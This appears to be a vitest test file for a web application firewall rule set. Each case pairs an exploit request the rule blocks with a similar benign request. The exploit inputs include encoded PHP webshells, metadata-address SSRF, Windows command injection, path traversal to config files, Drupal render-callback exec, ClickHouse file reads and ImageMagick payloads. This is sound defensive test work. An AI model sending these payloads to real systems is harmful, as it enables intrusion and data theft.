/**
 * Bundled rules of rev 2026-12-09b (issue 18, session 24): mechanisms held-out-17's misses showed after its blind
 * measurement, written for the class of exploit rather than the product. Each fires on its attack, sent the way such
 * an exploit sends it, and stays quiet on the benign request closest to it (a real PNG data URL, an SVG avatar, a
 * forge API committing a PHP file as base64, an ASP.NET question naming its own namespace, PHP code that calls
 * functions on variables, a file server path inside the network, a forward or proxy target on a public host, a
 * quoted name followed by & in prose, a cookie holding a Windows path without dot-dot steps). Rev 2026-12-09c adds
 * mechanisms of the older sets' misses (read long before): a base64 shell command in a command parameter, a PHP command
 * function as a render-array callback or hook, a SELECT reading a system file through a file function, a chr() chain,
 * an ImageMagick drawing through a coder prefix; and 9000369 rev 2 (type of a drive path).
 */
import { describe } from 'vitest';
import type { RequestSpec } from './fixtures.js';
import { BROWSER, form, json, JSON_HEADERS, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet, get, postForm, postJson } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const withCookie = (url: string, cookie: string): RequestSpec => ({ url, headers: [...BROWSER, ['Cookie', cookie]] });

const CASES: RuleCase[] = [
  [9001379, 'block', 'an image/png value whose base64 is <?php', postForm('/modules/Rubrics/rubrics_visualise_saveAjax.php', 'img=image%2Fpng%3Buzp6%2CPD9waHAgc3lzdGVtKCRfR0VUWyd4J10pOyA%2FPg%3D%3D&path=3rkfxwq.php5&gibbonPersonID=0000000008'), postForm('/profile/avatar', 'img=image%2Fpng%3Bbase64%2CiVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk&name=me.png')],
  [9001379, 'block', 'a GIF header then <?php in a data URL', json('{"avatar":"data:image/gif;base64,R0lGODlhPD9waHAgZWNobyBzaGVsbF9leGVjKCRfR0VUWydjJ10pOyA/Pg=="}'), json('{"avatar":"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=","logo":"data:image/svg+xml;base64,PD94bWwgdmVyc2lvbj0iMS4wIj8+"}')],
  [9001379, 'block', 'a data:text/plain stream of <?php', get('/index.php?page=data%3Atext%2Fplain%3Bbase64%2CPD9waHAgcGhwaW5mbygpOyA%2FPg%3D%3D'), { method: 'PUT', url: '/api/v3/repos/acme/site/contents/index.php', headers: JSON_HEADERS, body: '{"message":"update index","content":"PD9waHAgZWNobyAnaGVsbG8nOyA/Pg==","branch":"main"}' }],
  [9000763, 'block', 'a Register directive for System.Runtime.Remoting in ParseControl', postForm('/-/xaml/Sitecore.Xaml.Tutorials.Styles.Index', "__ISEVENT=1&__SOURCE=&__PARAMETERS=ParseControl(%22%3C%25%40+Register+TagPrefix%3D'x'+Namespace%3D'System.Runtime.Remoting.Services'+Assembly%3D'System.Runtime.Remoting'+%25%3E%3Cx%3ARemotingService+runat%3D'server'+Context-Response-ContentType%3D'61184762'+%2F%3E%22)"), json('{"title":"User control not found","body":"My page has <%@ Register TagPrefix=\\"uc\\" TagName=\\"Header\\" Src=\\"~/Controls/Header.ascx\\" %> and Namespace=\\"Acme.Web.Controls\\" in web.config; System.Web says the control is missing"}')],
  [9001662, 'block', 'a porte_plume preview holding <?php phpinfo(); ?>', postForm('/spip.php?action=porte_plume_previsu', 'data=AA_%5B%3Cimg256771%3E-%3EURL%60%3C%3Fphp+phpinfo()%3B+%3F%3E%60%5DBB'), json('{"answer":"Put <?php echo $title; ?> in the template and call phpinfo only from the CLI: php -i","code":"<?php print($a * $b); ?>"}')],
  [9001662, 'block', 'a PHP echo of a product as a marker', form('comment=%3C%3F%3D+4123*9871+%3F%3E&name=x'), form('comment=Price+is+%3C%3F%3D+%24qty+*+%24price+%3F%3E+and+2024*12+months&name=x')],
  [9000570, 'block', 'a binary path that is a UNC share on a public IP', postJson('/misc/validate_binary_path', '{"utility_path":"\\\\\\\\101.107.40.241\\\\x\\\\"}'), postJson('/misc/validate_binary_path', '{"utility_path":"\\\\\\\\192.168.10.5\\\\tools\\\\pg16\\\\bin","backup_dir":"\\\\\\\\fs01.corp.example.com\\\\backups\\\\"}')],
  [9000570, 'block', 'a session cookie that is a UNC path', withCookie('/browser/', 'pga4_session=\\\\106.162.103.196\\x\\9fnWI8!mkCXuHaOnYi0HI4O3M3ldqD3OSC'), withCookie('/browser/', 'pga4_session=2468bb5c-749e-4a9c-8fc9-9bf917d5bcac!0OecgjjMDxdP49EwKUGnRAq0297r; last_share=\\\\10.0.4.20\\scans')],
  // rev 2: a body's forward_url or proxy_url key is how a settings page sets its outbound proxy or a relay its LAN target: not read.
  [9000569, 'block', 'an image proxy asked for the metadata address', get('/imageproxy?u=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F'), postJson('/api/settings/network', '{"http":{"proxy_url":"http://10.0.0.1:3128","no_proxy":"localhost,.internal"},"forward_url":"http://192.168.1.40:631/"}')],
  [9000569, 'block', 'a picture proxy asked for a private address', get('/pictureproxy.php?url=http%3A%2F%2F172.17.166.209%3A8080%2F'), get('/imageproxy.php?url=https%3A%2F%2Fcdn.example.org%2Fimg%2Flogo.png&note=http%3A%2F%2F127.0.0.1%3A8080%2F')],
  [9000369, 'block', 'a quote closed, then & systeminfo &', postJson('/misc/validate_binary_path', '{"utility_path":"C:\\\\Users\\\\Public\\\\fEjw4\\" & systeminfo & \\""}'), json('{"review":"\\"Tom & Jerry\\" & friends, a classic; the net user count grew","q":"whoami vs. hostname on Windows"}')],
  [9000461, 'block', 'a JSON cookie holding ..\\\\ steps', withCookie('/wp-content/plugins/wp-file-upload/wfu_file_downloader.php?file=EFNglUWqTw&handler=dboption', 'wp_wpfileupload_XqnLreZ6b7I3boqD=%7B%22wfu_storage_EFNglUWqTw%22%3A%22..%5C%5C..%5C%5C..%5C%5Cvar%2Fwww%2Fhtml%2Fwp-config.php%22%7D'), withCookie('/app', 'prefs=%7B%22dir%22%3A%22C%3A%5C%5CUsers%5C%5Cann%5C%5C...%5C%5Cdocs%22%7D; v=1.2..3')],
  [9000369, 'block', 'a quote closed, then & type C:\\Windows\\win.ini &', postJson('/misc/validate_binary_path', '{"utility_path":"C:\\\\Users\\\\Public\\\\ZurSz\\" & type C:\\\\Windows\\\\win.ini & \\""}'), json('{"note":"\\"Q3 report\\" & type C notes are in the share","path":"C:\\\\Reports\\\\q3.docx"}')],
  // Rev 2026-12-09c: mechanisms of the older sets' misses (the generator and held-out 1-12, read long before).
  [9000371, 'block', 'a system parameter holding base64 of echo', get('/cgi-bin/nas_sharing.cgi?user=nobody&passwd=&cmd=15&system=ZWNobyAyMDMyODYxOQ=='), get('/cgi-bin/status.cgi?cmd=15&system=eyJpZCI6MX0%3D&token=aWQtMTIzNDU2Nzg5MA%3D%3D')],
  [9000371, 'block', 'a system parameter that is base64 of id', get('/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ%3D'), get('/api/run?command=aWQtdG9rZW4tNDI%3D&system=linux')],
  [9001663, 'block', 'a #post_render callback given exec', postForm('/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax', 'form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id'), postForm('/node/add/article', 'title=Exec+summary&body[0][value]=system+passthru+notes&field_tags[#post_render][]=trim&callback=systemStatus')],
  [9001663, 'block', 'a hook given a PHP command function', get('/vendor/htmlawed/htmlawed/htmLawedTest.php?text=id&hhook=exec&sid=abc'), get('/api/widgets?callback=jQuery3510_1712&hook=deploy_done&fn=exec')],
  [9000163, 'block', 'a ClickHouse SELECT from file() of /etc/issue', { method: 'POST', url: '/?user=default', headers: [...BROWSER, ['Content-Type', 'text/plain']], body: "SELECT * FROM file('/etc/issue', 'RawBLOB', 'x String')" }, { method: 'POST', url: '/?user=default', headers: [...BROWSER, ['Content-Type', 'text/plain']], body: "SELECT * FROM file('exports/orders.csv', 'CSV') WHERE path = '/etc/issue'" }],
  [9000163, 'block', 'a percent-encoded SELECT from file() of /proc', get('/?query=SELECT%20%2A%20FROM%20file%28%27%2Fproc%2Fversion%27%2C%20%27RawBLOB%27%29&user=default'), get('/docs/search?q=SELECT%20name%20FROM%20files%20WHERE%20dir%3D%27%2Fetc%2F%27')],
  [9001664, 'block', 'a file name spelled in chr() calls', postForm('/question/bank/editquestion/question.php', 'answer[0]=(1)-%3E%7Bfile_put_contents(chr(85).chr(98).chr(116).chr(99).chr(46).chr(112).chr(104).chr(112)%2C1)%7D'), json('{"code":"$sep = chr(9) . chr(10); $q = chr(34) . $name . chr(34);"}')],
  [9000466, 'block', "an MVG drawing reading through label:@", { method: 'POST', url: '/user/avatar', headers: [...BROWSER, ['Content-Type', 'multipart/form-data; boundary=----WebKitFormBoundaryx7']], body: "------WebKitFormBoundaryx7\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.png\"\r\nContent-Type: image/png\r\n\r\npush graphic-context\nviewbox 0 0 210 420\nimage over 0,0 1,1 'label:@/etc/hosts'\npop graphic-context\n\r\n------WebKitFormBoundaryx7--\r\n" }, { method: 'POST', url: '/user/avatar', headers: [...BROWSER, ['Content-Type', 'multipart/form-data; boundary=----WebKitFormBoundaryx7']], body: "------WebKitFormBoundaryx7\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n<svg xmlns=\"http://www.w3.org/2000/svg\"><a href=\"mailto:label@example.org\"><text>label: msl</text></a></svg>\r\n------WebKitFormBoundaryx7--\r\n" }],
  [9000466, 'block', 'an MVG url() fill piping to a command', json('{"img":"push graphic-context\\nviewbox 0 0 168 61\\nfill \'url(https://example.com/a.jpg\\"|id\\")\'\\npop graphic-context"}'), json('{"css":"body { background: url(https://example.com/a.jpg) } a|b","doc":"push graphic-context then pop"}')],
];

describe("bundled rules for held-out-17's exploit mechanisms (rev 2026-12-09b) and the older sets' (rev 2026-12-09c)", () => {
  testRuleCases(CASES, hits);

  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
